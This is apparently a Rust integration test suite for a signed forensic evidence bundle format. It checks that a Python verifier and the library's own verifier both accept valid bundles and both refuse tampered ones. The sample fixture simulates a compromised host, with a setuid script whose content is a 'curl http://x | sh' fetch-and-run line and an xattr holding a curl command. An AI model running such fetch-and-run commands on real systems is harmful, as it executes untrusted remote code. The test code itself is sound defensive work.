//! Interoperability of the bundle format, both ways: bundles written by the exhibit_common
//! library are accepted by the independent Python verifier (tests/interop/verify_bundle.py,
//! written from docs/bundle-format.md), and the same tampered bundles that the library's
//! verifier refuses — a flipped content byte, a wrong key, a swapped payloadType, a
//! removed member, a truncated file — are refused by the Python verifier too.

use crate::support;
use exhibit_tests::spec;
use exhibit_tests::tamper;

use ed25519_dalek::Signer;
use exhibit_common::keys;
use exhibit_common::records::{ChangeKind as K, FileType};
use exhibit_common::text::{b64, ByteText};
use exhibit_common::{verify, VerifyOptions};
use spec::{process, record, Spec};
use std::path::{Path, PathBuf};
use std::process::Command;
use tamper::{compress, decompress};

struct Lab {
    dir: tempfile::TempDir,
    key: ed25519_dalek::SigningKey,
    pubkey: PathBuf,
    n: std::cell::Cell<u32>,
}

fn lab() -> Lab {
    let dir = tempfile::tempdir().unwrap();
    let key = keys::generate().unwrap();
    let (_, pubkey) = keys::write_keypair(&dir.path().join("ir"), &key).unwrap();
    Lab {
        dir,
        key,
        pubkey,
        n: std::cell::Cell::new(0),
    }
}

/// A bundle with every kind of content entry the Python verifier must walk: a regular
/// file with a PAX mtime and an xattr, an empty file, a directory, a symlink, a
/// whiteout, a hard link, a long non-UTF-8 name (PAX path), processes, sockets, logs.
fn sample() -> Spec {
    let mut s = Spec::default()
        .dir("/tmp", K::Modified)
        .file(
            "/tmp/.x",
            K::Added,
            0o4755,
            b"#!/bin/sh\ncurl http://x | sh\n",
        )
        .file("/tmp/empty", K::Added, 0o644, b"")
        .symlink("/tmp/sh", "/bin/busybox")
        .deleted("/etc/motd")
        .process(process(100, "/bin/httpd", &["httpd", "-f"]))
        .socket("tcp", "LISTEN", "0.0.0.0:8080", "0.0.0.0:0", 1)
        .log("started");
    s.files[1].0.xattrs = vec![exhibit_common::records::Xattr {
        name: ByteText(b"user.origin".to_vec()),
        value_b64: b64(b"curl\0http://10.0.0.9/x"),
    }];
    s.files[1].0.mtime_ns = 1_795_422_653_123_456_789;
    s.files[1].0.nlink = 2;
    s.files[1].0.hardlink_group = Some(1_048_577);
    let mut link = record(b"/tmp/.y", K::Added, FileType::File, 0o4755, 0);
    link.hardlink_to = Some(ByteText(b"rootfs/tmp/.x".to_vec()));
    link.size = 30;
    link.nlink = 2;
    link.hardlink_group = Some(1_048_577);
    s.files.push((link, vec![]));
    let long = [b"/tmp/".to_vec(), vec![0xff, b'a'], vec![b'n'; 120]].concat();
    let content = b"long name, odd bytes".to_vec();
    let r = record(&long, K::Added, FileType::File, 0o600, content.len() as u64);
    s.files.push((r, content));
    s
}

impl Lab {
    /// Writes `bytes` to a fresh file in the lab and returns its path.
    fn put(&self, bytes: &[u8]) -> PathBuf {
        self.n.set(self.n.get() + 1);
        let p = self
            .dir
            .path()
            .join(format!("b{}.exhibit.tar.zst", self.n.get()));
        std::fs::write(&p, bytes).unwrap();
        p
    }
}

/// Runs the Python verifier: (exit code, stdout).
fn python(bundle: &Path, pubkey: &Path) -> (i32, String) {
    let o = support::run(
        Command::new("python3")
            .arg(support::root().join("tests/interop/verify_bundle.py"))
            .arg(bundle)
            .arg(pubkey),
    );
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(
        !stderr.contains("Traceback"),
        "the Python verifier crashed: {stderr}"
    );
    (
        o.status.code().expect("python3 exited"),
        String::from_utf8_lossy(&o.stdout).into_owned(),
    )
}

/// The library's verifier on a file.
fn rust_ok(bundle: &Path, key: &ed25519_dalek::VerifyingKey) -> Result<(), String> {
    verify(
        bundle,
        &VerifyOptions {
            keys: vec![*key],
            max_decompressed: None,
        },
    )
    .map(|_| ())
    .map_err(|e| e.to_string())
}

/// Both verifiers refuse `bytes` (with the lab's key); returns the Python verdict.
fn both_refuse(l: &Lab, bytes: &[u8], what: &str) -> String {
    let p = l.put(bytes);
    let (code, out) = python(&p, &l.pubkey);
    assert_ne!(code, 0, "{what}: the Python verifier accepted it: {out}");
    assert!(out.starts_with("FAIL: "), "{what}: {out}");
    assert!(
        rust_ok(&p, &l.key.verifying_key()).is_err(),
        "{what}: the library's verifier accepted it"
    );
    out
}

#[test]
fn the_python_verifier_accepts_what_the_library_writes() {
    let l = lab();
    let good = l.put(&sample().bytes(Some(&l.key)));
    let (code, out) = python(&good, &l.pubkey);
    assert_eq!(code, 0, "{out}");
    // Subjects: host, container, processes, sockets, image, changes, logs, volumes,
    // acquisition, manifest.
    assert_eq!(out.trim(), "OK 10 subjects");
    rust_ok(&good, &l.key.verifying_key()).unwrap();

    // The same public key written by keys::public_pem to another file.
    let copy = l.dir.path().join("copy.pub");
    std::fs::write(&copy, keys::public_pem(&l.key.verifying_key())).unwrap();
    assert_eq!(python(&good, &copy).0, 0);

    // An unsigned bundle is refused when a key is given, by both.
    let out = both_refuse(&l, &sample().bytes(None), "unsigned");
    assert!(out.contains("unsigned"), "{out}");
}

#[test]
fn a_flipped_byte_in_any_content_member_is_refused() {
    let l = lab();
    let tar = decompress(&sample().bytes(Some(&l.key)));
    let sp = tamper::spans(&tar);
    let mut flipped = 0;
    for s in sp.iter().filter(|s| !s.name.starts_with(b"exhibit/")) {
        if s.data == s.end {
            continue;
        }
        for at in [s.data, s.data + (s.end - s.data) / 2, s.end - 1] {
            let mut t = tar.clone();
            t[at] ^= 0x20;
            let out = both_refuse(&l, &compress(&t), &format!("flip in {}", s.name()));
            assert!(out.contains("sha256"), "{}: {out}", s.name());
        }
        flipped += 1;
    }
    assert_eq!(flipped, 2, "the sample has two regular files with content");
    // And a flipped byte in every exhibit/ member, the envelope included.
    for s in sp.iter().filter(|s| s.name.starts_with(b"exhibit/")) {
        if s.data == s.end {
            continue;
        }
        let mut t = tar.clone();
        t[s.data + (s.end - s.data) / 2] ^= 0x01;
        both_refuse(&l, &compress(&t), &format!("flip in {}", s.name()));
    }
}

#[test]
fn a_wrong_key_is_refused() {
    let l = lab();
    let bundle = l.put(&sample().bytes(Some(&l.key)));
    let other = keys::generate().unwrap();
    let other_pub = l.dir.path().join("other.pub");
    std::fs::write(&other_pub, keys::public_pem(&other.verifying_key())).unwrap();
    let (code, out) = python(&bundle, &other_pub);
    assert_ne!(code, 0, "{out}");
    assert!(out.starts_with("FAIL: "), "{out}");
    assert!(rust_ok(&bundle, &other.verifying_key()).is_err());

    // The envelope claims the other key's keyid: the signature itself must fail.
    let tar = decompress(&std::fs::read(&bundle).unwrap());
    let mut env = tamper::envelope(&tar);
    env.signatures[0].keyid = keys::keyid(&other.verifying_key());
    let p = l.put(&compress(&tamper::with_envelope(&tar, &env)));
    let (code, out) = python(&p, &other_pub);
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("does not verify"), "{out}");
    assert!(rust_ok(&p, &other.verifying_key()).is_err());

    // A signature by the other key over the very same statement is refused with ours.
    let mut env = tamper::envelope(&tar);
    let payload = exhibit_common::text::b64_decode(&env.payload).unwrap();
    let pae = exhibit_common::dsse::pae(&env.payload_type, &payload);
    env.signatures[0].sig = b64(&other.sign(&pae).to_bytes());
    both_refuse(
        &l,
        &compress(&tamper::with_envelope(&tar, &env)),
        "signed by another key",
    );
}

#[test]
fn a_swapped_payload_type_is_refused() {
    let l = lab();
    let tar = decompress(&sample().bytes(Some(&l.key)));
    // The type changed, the signature left as it was (it no longer verifies).
    let mut env = tamper::envelope(&tar);
    env.payload_type = "application/json".into();
    let out = both_refuse(
        &l,
        &compress(&tamper::with_envelope(&tar, &env)),
        "payloadType",
    );
    assert!(out.contains("payloadType"), "{out}");
    // Re-signed over the new type with the right key: only the type check can refuse.
    let payload = exhibit_common::text::b64_decode(&env.payload).unwrap();
    let pae = exhibit_common::dsse::pae(&env.payload_type, &payload);
    env.signatures[0].sig = b64(&l.key.sign(&pae).to_bytes());
    let out = both_refuse(
        &l,
        &compress(&tamper::with_envelope(&tar, &env)),
        "payloadType re-signed",
    );
    assert!(out.contains("payloadType"), "{out}");
}

#[test]
fn a_removed_member_is_refused() {
    let l = lab();
    let tar = decompress(&sample().bytes(Some(&l.key)));
    let sp = tamper::spans(&tar);
    // The harness is sound: the untouched rebuild verifies in both.
    let all: Vec<usize> = (0..sp.len()).collect();
    let same = l.put(&compress(&tamper::rebuild(&tar, &sp, &all)));
    assert_eq!(python(&same, &l.pubkey).0, 0);
    rust_ok(&same, &l.key.verifying_key()).unwrap();
    for (i, s) in sp.iter().enumerate() {
        both_refuse(
            &l,
            &compress(&tamper::without(&tar, i)),
            &format!("without {}", s.name()),
        );
    }
}

#[test]
fn a_truncated_file_is_refused() {
    let l = lab();
    let b = sample().bytes(Some(&l.key));
    // The compressed file cut anywhere, down to nothing.
    let n = b.len();
    for cut in [0, 1, 4, 13, n / 4, n / 2, 3 * n / 4, n - 13, n - 4, n - 1] {
        both_refuse(&l, &b[..cut], &format!("file cut at {cut} of {n}"));
    }
    // A complete zstd frame around a cut tar stream: inside a member, at a member's
    // end, and with the end-of-archive marker missing or half there.
    let tar = decompress(&b);
    let sp = tamper::spans(&tar);
    let env = tamper::span(&sp, "exhibit/manifest.dsse.json");
    let payload = tamper::span(&sp, "rootfs/tmp/.x");
    for cut in [
        payload.data + 7,
        payload.next,
        env.data + 100,
        env.next,
        env.next + 512,
    ] {
        both_refuse(
            &l,
            &compress(&tar[..cut]),
            &format!("tar cut at {cut} of {}", tar.len()),
        );
    }
}

#[test]
fn non_zero_tar_padding_is_refused() {
    // Section 3.1: the padding after an entry's data, and after a PAX header's records,
    // is zero bytes. Both verifiers refuse anything else (a place to hide bytes).
    let l = lab();
    let tar = decompress(&sample().bytes(Some(&l.key)));
    let sp = tamper::spans(&tar);
    for name in [
        "exhibit/host.json",
        "rootfs/tmp/.x",
        "exhibit/fs/changes.jsonl",
        "exhibit/manifest.dsse.json",
    ] {
        let s = tamper::span(&sp, name);
        assert!(s.next > s.end + 2, "{name} has padding");
        let mut t = tar.clone();
        t[s.end + 1] = b'!';
        let out = both_refuse(&l, &compress(&t), &format!("padding after {name}"));
        assert!(out.contains("padding"), "{name}: {out}");
    }
    // The PAX header of rootfs/tmp/.x (mtime and xattr records).
    let s = tamper::span(&sp, "rootfs/tmp/.x");
    assert_eq!(tar[s.start + 156], b'x');
    let size: usize = std::str::from_utf8(&tar[s.start + 124..s.start + 135])
        .ok()
        .and_then(|o| usize::from_str_radix(o, 8).ok())
        .unwrap();
    let mut t = tar.clone();
    t[s.start + 512 + size + 1] = b'!';
    let out = both_refuse(&l, &compress(&t), "padding after a PAX header");
    assert!(out.contains("padding"), "{out}");
}
